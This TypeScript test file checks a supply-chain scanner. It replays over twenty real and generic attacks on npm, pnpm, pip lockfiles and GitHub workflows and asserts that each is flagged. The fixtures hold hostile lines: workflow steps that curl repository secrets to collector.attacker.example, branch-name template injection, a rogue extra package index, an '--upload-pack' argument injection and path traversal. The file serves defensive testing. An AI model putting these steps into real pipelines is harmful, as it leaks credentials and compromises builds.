import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { after, test } from 'node:test'
import { check } from '../../src/check/check.ts'
import { npmRegistry } from '../../src/check/lockfiles/registries.ts'
import { rank } from '../../src/core/finding.ts'
import { defaultPolicy, judge } from '../../src/core/policy.ts'
import { openNetwork } from '../../src/io/network.ts'
import { type Answers, type Served, serve } from '../answers.ts'
import { projectOf, write } from './project.ts'
import { commit, hex, samples, sri } from './samples.ts'

/** An attack as it reached those who were hit: what stood in the repository before, what the change was, and who tells. */
interface Attack {
  readonly name: string
  readonly sample: string
  /** Changes the sample's file, or another one that is named. */
  readonly edit: (text: string) => string
  readonly file?: string
  /** A rule that tells, of medium or higher. */
  readonly rule: string
  /** What registries and advisories said at that time: without it nobody could tell. */
  readonly learned?: Answers
}

const swap = (from: string | RegExp, to: string) => (text: string) => text.replace(from, to)
const newPackage = (name: string, more: string) => (text: string) =>
  text
    .replace('"gamma": "^3.0.0"', `"gamma": "^3.0.0",\n        "${name}": "^1.0.0"`)
    .replace(
      '"node_modules/gamma": {',
      `"node_modules/${name}": {\n      "version": "1.0.0",\n      "resolved": "${npmRegistry}${name}/-/${name}-1.0.0.tgz",\n      "integrity": "${sri(name)}"${more}\n    },\n    "node_modules/gamma": {`,
    )
const script = ',\n      "hasInstallScript": true'
/** A patch release that brings an install script. */
const scriptInPatch = (text: string): string =>
  text.replaceAll('3.0.1', '3.0.2').replace('"node_modules/gamma": {', '"node_modules/gamma": {\n      "hasInstallScript": true,')
const movedTag = swap(commit('checkout'), 'v4')

/** A pipeline without a fault, and what was pushed beside it. */
const pipeline = (steps: string, on = 'push'): string =>
  `name: ci\non: ${on}\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    steps:\n${steps}`
const added = '.github/workflows/added.yml'
/** A patch release that brings nothing that a lockfile shows. */
const patch = (text: string): string => text.replaceAll('3.0.1', '3.0.2').replaceAll(sri('gamma@3.0.1'), sri('gamma@3.0.2'))

const longAgo = '2025-01-01T00:00:00Z'
const now = new Date('2026-01-01T00:00:00Z')
/** What npm's registry says of the sample's packages, with gamma 3.0.2 published two hours ago. */
const npmSays = (more: { attested?: readonly string[]; published?: string } = {}): Readonly<Record<string, unknown>> => {
  const document = (name: string, versions: readonly string[], time: object): unknown => ({
    time,
    versions: Object.fromEntries(
      versions.map((version) => [
        version,
        { dist: { integrity: sri(`${name}@${version}`), ...(more.attested?.includes(version) ? { attestations: { provenance: {} } } : {}) } },
      ]),
    ),
  })
  return {
    '/npm/@scope/beta': document('@scope/beta', ['2.1.3'], { '2.1.3': longAgo }),
    '/npm/alpha': document('alpha', ['1.2.0'], { '1.2.0': longAgo }),
    '/npm/gamma': document('gamma', ['3.0.1', '3.0.2'], { '3.0.1': longAgo, '3.0.2': more.published ?? '2025-12-31T22:00:00Z' }),
  }
}
const malware: Answers['advisories'] = { 'npm gamma 3.0.2': ['MAL-2026-1'] }

/** The attacks from 2024-12 to 2026-06, each once. */
const attacks: readonly Attack[] = [
  {
    name: 'Ultralytics (2024-12): the name of a branch is run in a release workflow',
    sample: 'workflow',
    file: added,
    edit: () => pipeline(`      - run: git pull origin $\u007B{ github.head_ref }}\n`, 'pull_request_target'),
    rule: 'template-injection',
  },
  { name: 'tj-actions, reviewdog (2025-03): a tag was moved', sample: 'workflow', edit: movedTag, rule: 'unpinned-action' },
  { name: 's1ngularity / nx (2025-08): a patch release with a postinstall', sample: 'npm v3', edit: scriptInPatch, rule: 'risky-change' },
  {
    name: 'GhostAction (2025-09): a pushed workflow posts a secret',
    sample: 'workflow',
    file: added,
    edit: () => pipeline(`      - run: curl -s -X POST -d 'PYPI_TOKEN=$\u007B{ secrets.PYPI_TOKEN }}' https://collector.attacker.example\n`),
    rule: 'secret-sent-away',
  },
  {
    name: 'chalk, debug (2025-09): a phished publisher, no script',
    sample: 'npm v3',
    edit: patch,
    rule: 'young-release',
    learned: { answers: npmSays() },
  },
  {
    name: 'Shai-Hulud (2025-09): a patch release with a postinstall',
    sample: 'npm v3',
    edit: scriptInPatch,
    rule: 'install-script',
  },
  {
    name: 'Shai-Hulud 2 (2025-11): a preinstall in what was known',
    sample: 'pnpm v6',
    edit: (text) => `${text.trimEnd()}\n    requiresBuild: true\n`,
    rule: 'risky-change',
  },
  { name: 'Trivy actions (2026-03): nearly all tags were moved', sample: 'action', edit: swap(commit('cache'), '0.28.0'), rule: 'unpinned-action' },
  { name: 'CanisterWorm (2026-03): a postinstall in many versions', sample: 'npm v3', edit: scriptInPatch, rule: 'risky-change' },
  {
    name: 'KICS action (2026-03): the locked commit is another',
    sample: 'actions.lock',
    edit: swap(commit('checkout'), commit('evil')),
    rule: 'changed-hash',
  },
  {
    name: 'LiteLLM, telnyx (2026-03): another wheel under a known version',
    sample: 'requirements',
    edit: (text) => text.replace(hex('a1'), hex('evil 1')).replace(hex('a2'), hex('evil 2')),
    rule: 'changed-hash',
  },
  {
    name: 'axios (2026-03): a new dependency with a postinstall',
    sample: 'npm v3',
    edit: newPackage('plain-crypto-js', script),
    rule: 'risky-change',
  },
  { name: 'Mini Shai-Hulud (2026-04): a preinstall that downloads', sample: 'npm v3', edit: scriptInPatch, rule: 'install-script' },
  {
    name: 'TanStack (2026-05): an optional dependency from a commit',
    sample: 'npm v3',
    edit: (text) =>
      newPackage('setup', '')(text).replace(`${npmRegistry}setup/-/setup-1.0.0.tgz`, `git+ssh://git@github.com/acme/setup.git#${commit('x')}`),
    rule: 'exotic-transitive',
  },
  {
    name: 'node-ipc, @antv (2026-05): a hijacked publisher without the provenance of before',
    sample: 'npm v3',
    edit: patch,
    rule: 'lost-provenance',
    learned: { answers: npmSays({ attested: ['3.0.1'], published: longAgo }) },
  },
  {
    name: 'Megalodon (2026-05): a pushed workflow sends everything',
    sample: 'workflow',
    file: added,
    edit: () =>
      pipeline(
        `      - run: echo "$ALL" | base64 -w 0 | curl --data-binary @- https://collector.attacker.example\n        env:\n          ALL: $\u007B{ toJSON(secrets) }}\n`,
      ),
    rule: 'secret-sent-away',
  },
  {
    name: '@redhat-cloud-services (2026-06): the pipeline itself was taken, provenance holds',
    sample: 'npm v3',
    edit: patch,
    rule: 'known-malware',
    learned: { answers: npmSays({ attested: ['3.0.1', '3.0.2'], published: longAgo }), advisories: malware },
  },
  {
    name: 'Phantom Gyp / Miasma (2026-06): a binding.gyp that runs code, nothing in the lockfile',
    sample: 'npm v3',
    edit: patch,
    rule: 'young-release',
    learned: { answers: npmSays() },
  },
  {
    name: 'dependency and alias confusion: an alias that is another package',
    sample: 'npm v3',
    edit: swap('gamma/-/gamma-3.0.1.tgz', 'camma/-/camma-3.0.1.tgz'),
    rule: 'url-names-another-package',
  },
  {
    name: 'lockfile injection: another tarball, its own hash',
    sample: 'npm v3',
    edit: (text) => text.replace(`${npmRegistry}gamma`, 'https://registry.attacker.example/gamma').replace(sri('gamma@3.0.1'), sri('evil')),
    rule: 'changed-hash',
  },
  {
    name: 'pnpm argument injection (CVE-2026-50014)',
    sample: 'pnpm v9',
    edit: swap(`{integrity: ${sri('gamma')}}`, "{type: git, repo: 'https://github.com/acme/gamma.git', commit: --upload-pack=x}"),
    rule: 'mutable-git-reference',
  },
  {
    name: 'workspace escape, key traversal',
    sample: 'npm v3',
    edit: swap('"node_modules/gamma"', '"node_modules/../../../gamma"'),
    rule: 'unsafe-path',
  },
]

/** Other ways of the same attacks. */
const more: readonly Attack[] = [
  { name: 'repository of an action given to another owner', sample: 'actions.lock', edit: swap('44036562', '1'), rule: 'risky-change' },
  {
    name: 'dependency confusion: a second index',
    sample: 'requirements',
    edit: (text) => `--extra-index-url https://pypi.attacker.example/simple\n${text}`,
    rule: 'registry-confusion',
  },
  { name: 'lockfile injection: the hash alone', sample: 'yarn v1', edit: swap(sri('gamma'), sri('evil')), rule: 'changed-hash' },
  { name: 'lockfile injection: the hash is gone', sample: 'npm v3', edit: swap(/,\n\s*"integrity": "[^"]*"/, ''), rule: 'risky-change' },
  {
    name: 'workspace escape: a folder outside',
    sample: 'pnpm v9',
    edit: swap(`{integrity: ${sri('gamma')}}`, '{type: directory, directory: ../../gamma}'),
    rule: 'link-leaves-repository',
  },
  { name: 'a version with a known hole is locked again', sample: 'npm v3', edit: (text) => text.replaceAll('3.0.1', '3.0.0'), rule: 'risky-change' },
]

const git = (root: string, ...args: string[]): void => {
  execFileSync('git', ['-c', 'user.name=test', '-c', 'user.email=test@test.example', '-c', 'commit.gpgsign=false', ...args], {
    cwd: root,
    stdio: 'ignore',
  })
}

const opened: Served[] = []
after(() => {
  for (const { close } of opened) close()
})

for (const { name, sample: wanted, edit, rule, file, learned } of [...attacks, ...more])
  test(name, async () => {
    const sample = samples.find((one) => one.name === wanted)
    assert.ok(sample)
    const root = projectOf(sample.files)
    git(root, 'init', '--quiet')
    git(root, 'add', '--all')
    git(root, 'commit', '--quiet', '--message=base')
    const served = learned && (await serve(learned))
    if (served) opened.push(served)
    const online = { ...(served ? { network: openNetwork({}), registries: served.registries } : {}), now }
    const look = (how: object = online) => check({ root, targets: ['.'], only: ['lockfile', 'workflow'], base: 'HEAD', ...how })
    const blocks = async (how?: object): Promise<readonly string[]> => {
      const report = await look(how)
      assert.deepEqual(report.faults, [])
      return judge(report, { ...defaultPolicy, failOn: 'medium' }, '2026-01-01').blocking.map((finding) => finding.rule)
    }
    const lockfileOnly = (await look()).findings.filter(({ kind, severity }) => kind === 'lockfile' && rank(severity) >= rank('medium'))
    assert.deepEqual(
      lockfileOnly.map(({ message }) => message),
      [],
      'the project is clean before',
    )
    const path = file ?? sample.path
    const text = sample.files[path] ?? ''
    assert.notEqual(edit(text), text, 'the attack changes nothing')
    write(root, { [path]: edit(text) })
    const told = await blocks()
    assert.ok(told.includes(rule), `found ${told.length === 0 ? 'nothing' : [...new Set(told)].join(', ')}`)
    // What is said to need what registries know, needs it.
    if (learned) assert.ok(!(await blocks({})).includes(rule))
  })

test('all 22 attacks are stopped, 17 of them at least with nobody asked', () => {
  assert.equal(attacks.length, 22)
  assert.ok(attacks.filter(({ learned }) => learned === undefined).length >= 17)
})
